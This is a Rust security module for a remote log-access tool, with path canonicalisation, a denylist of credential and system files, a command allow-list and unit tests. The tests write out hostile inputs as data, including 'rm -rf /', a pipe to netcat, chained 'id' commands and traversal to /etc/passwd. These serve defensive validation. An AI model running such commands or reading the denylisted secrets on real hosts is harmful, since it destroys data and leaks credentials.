// Tailgate - core/security.rs
//
// The security gate every remote operation passes before a single byte is
// sent to a remote host.
//
// All predicates are pure and stateless; the compiled denylist is built once
// and shared read-only, so these functions are safe to call concurrently
// without synchronisation.
//
// Paths are canonicalised lexically rather than through the local
// filesystem: the paths being checked usually live on another machine.

use crate::util::constants::{ALLOWED_REMOTE_COMMANDS, FORBIDDEN_COMMAND_CHARS};
use regex::RegexSet;
use std::sync::OnceLock;

/// Patterns that are rejected regardless of the allow-list (case-insensitive).
const DENYLIST_PATTERNS: &[&str] = &[
    r"\.\.",
    r"/etc/shadow",
    r"/etc/passwd",
    r"/root/\.ssh",
    r"/\.ssh(/|$)",
    r"/id_(rsa|dsa|ecdsa|ed25519)[^/]*$",
    r"/authorized_keys$",
    r"\.pem$",
    r"\.key$",
    r"^/proc(/|$)",
    r"^/sys(/|$)",
];

fn denylist() -> &'static RegexSet {
    static DENYLIST: OnceLock<RegexSet> = OnceLock::new();
    DENYLIST.get_or_init(|| {
        let patterns = DENYLIST_PATTERNS.iter().map(|p| format!("(?i){p}"));
        RegexSet::new(patterns).expect("built-in denylist patterns are valid")
    })
}

/// Lexically canonicalise `path`: make it absolute (relative paths are taken
/// from `/`), drop `.` segments and empty segments, and resolve `..` without
/// ever climbing above the root.
///
/// Returns `None` for an empty path or one containing a NUL byte.
pub fn canonicalize(path: &str) -> Option<String> {
    let trimmed = path.trim();
    if trimmed.is_empty() || trimmed.contains('\0') {
        return None;
    }

    let mut parts: Vec<&str> = Vec::new();
    for segment in trimmed.split('/') {
        match segment {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    Some(format!("/{}", parts.join("/")))
}

/// True if `path` may be accessed under the given allow-listed prefixes.
///
/// Fails closed: an empty allow-list admits nothing. The canonical path must
/// equal a canonical prefix or lie beneath it on a component boundary, so
/// `/var/log` admits `/var/log/app.log` but not `/var/logger`.
pub fn validate_path(path: &str, allowed_prefixes: &[String]) -> bool {
    let Some(canonical) = canonicalize(path) else {
        return false;
    };

    if denylist().is_match(&canonical) {
        tracing::debug!(path = %canonical, "Path matches denylist");
        return false;
    }

    if allowed_prefixes.is_empty() {
        return false;
    }

    allowed_prefixes.iter().any(|prefix| {
        let Some(prefix) = canonicalize(prefix) else {
            return false;
        };
        if prefix == "/" || canonical == prefix {
            return true;
        }
        canonical
            .strip_prefix(prefix.as_str())
            .is_some_and(|rest| rest.starts_with('/'))
    })
}

/// True if `command` is safe to run on a remote host.
///
/// The first token must be an allow-listed program, and the whole command
/// text must be free of shell metacharacters that enable chaining,
/// substitution, or redirection.
pub fn validate_command(command: &str) -> bool {
    let program = command.split_whitespace().next().unwrap_or("");
    if !ALLOWED_REMOTE_COMMANDS.contains(&program) {
        return false;
    }
    !command.contains(FORBIDDEN_COMMAND_CHARS)
}

/// True iff `0 <= size <= max`.
pub fn check_file_size(size: u64, max: u64) -> bool {
    size <= max
}

/// Single-quote `arg` for a POSIX shell.
///
/// Arguments containing a quote or NUL are refused outright instead of being
/// escaped: the escape sequence would need characters the command validator
/// rejects, and no legitimate log path needs them.
pub fn shell_quote(arg: &str) -> Option<String> {
    if arg.contains('\'') || arg.contains('\0') {
        return None;
    }
    Some(format!("'{arg}'"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allow(prefixes: &[&str]) -> Vec<String> {
        prefixes.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn canonicalize_resolves_dots_and_makes_absolute() {
        assert_eq!(canonicalize("/var/log/./app/../x.log").as_deref(), Some("/var/log/x.log"));
        assert_eq!(canonicalize("var/log").as_deref(), Some("/var/log"));
        assert_eq!(canonicalize("/../../etc").as_deref(), Some("/etc"));
        assert_eq!(canonicalize("//var//log/").as_deref(), Some("/var/log"));
        assert_eq!(canonicalize("   "), None);
    }

    #[test]
    fn accepts_path_under_prefix() {
        assert!(validate_path("/var/log/nginx/access.log", &allow(&["/var/log"])));
        assert!(validate_path("/var/log", &allow(&["/var/log/"])));
    }

    #[test]
    fn rejects_everything_with_empty_allow_list() {
        assert!(!validate_path("/var/log/app.log", &[]));
        assert!(!validate_path("/", &[]));
    }

    #[test]
    fn rejects_sibling_with_shared_prefix_text() {
        assert!(!validate_path("/var/logger/app.log", &allow(&["/var/log"])));
    }

    #[test]
    fn traversal_is_resolved_before_prefix_check() {
        // Canonicalises to /etc/passwd: outside the allow-list and denylisted.
        assert!(!validate_path("/var/log/../../etc/passwd", &allow(&["/var/log"])));
        // Canonicalises to /var/x.log: outside /var/log.
        assert!(!validate_path("/var/log/../x.log", &allow(&["/var/log"])));
    }

    #[test]
    fn rejects_double_dot_remnants_regardless_of_allow_list() {
        assert!(!validate_path("/var/log/app..log", &allow(&["/"])));
        assert!(!validate_path("/data/...", &allow(&["/data"])));
    }

    #[test]
    fn denylist_overrides_allow_list() {
        let all = allow(&["/"]);
        assert!(!validate_path("/etc/passwd", &all));
        assert!(!validate_path("/ETC/SHADOW", &all));
        assert!(!validate_path("/root/.ssh/config", &all));
        assert!(!validate_path("/home/deploy/.ssh/known_hosts", &all));
        assert!(!validate_path("/home/deploy/id_ed25519", &all));
        assert!(!validate_path("/srv/tls/server.pem", &all));
        assert!(!validate_path("/srv/tls/server.KEY", &all));
        assert!(!validate_path("/proc/self/environ", &all));
        assert!(!validate_path("/sys", &all));
        assert!(validate_path("/var/log/syslog", &all));
        assert!(validate_path("/srv/processor/out.log", &all));
    }

    #[test]
    fn command_must_start_with_allowed_program() {
        assert!(validate_command("tail -c 10240 '/var/log/a.log'"));
        assert!(validate_command("find '/var/log' -maxdepth 1 -type f -name '*.log'"));
        assert!(!validate_command("rm -rf /"));
        assert!(!validate_command("truncate -s 0 /var/log/a.log"));
        assert!(!validate_command(""));
        assert!(!validate_command("tailx /var/log/a.log"));
    }

    #[test]
    fn command_rejects_shell_metacharacters() {
        for bad in [
            "tail -f /a; rm -rf /",
            "cat /a | nc evil 1",
            "tail /a && id",
            "cat $HOME/x",
            "cat `id`",
            "cat /a > /b",
            "cat < /a",
            "tail /a\nid",
            "tail /a\rid",
        ] {
            assert!(!validate_command(bad), "should reject {bad:?}");
        }
    }

    #[test]
    fn file_size_bounds_are_inclusive() {
        assert!(check_file_size(0, 100));
        assert!(check_file_size(100, 100));
        assert!(!check_file_size(101, 100));
        assert!(!check_file_size(524_288_000, 104_857_600));
    }

    #[test]
    fn shell_quote_refuses_embedded_quotes() {
        assert_eq!(shell_quote("/var/log/a b.log").as_deref(), Some("'/var/log/a b.log'"));
        assert_eq!(shell_quote("/var/log/it's.log"), None);
    }
}
